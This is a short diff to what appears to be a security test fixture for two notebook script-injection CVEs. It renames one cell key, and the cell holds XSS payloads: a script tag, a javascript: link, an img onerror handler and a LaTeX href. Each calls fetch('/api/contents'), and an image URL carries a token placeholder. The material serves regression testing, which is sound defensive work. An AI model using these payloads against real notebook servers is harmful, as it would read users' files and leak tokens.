@@ -3,7 +3,7 @@
 SOURCE = "CVE-2021-32797, CVE-2021-32798"
 SUCCESS = "a script in the executed notebook's outputs"
 CELLS = {
-    "text-1": "# Title <script>fetch('/api/contents')</script>\n\n[the grade](javascript:fetch('/api/contents'))\n\n"
+    "text-the-target-of-attacks": "# Title <script>fetch('/api/contents')</script>\n\n[the grade](javascript:fetch('/api/contents'))\n\n"
     "![x](https://example.invalid/@TOKEN@)\n\n<img src=x onerror=fetch('/api/contents')>\n\n$\\href{javascript:1}{x}$\n"
 }
 
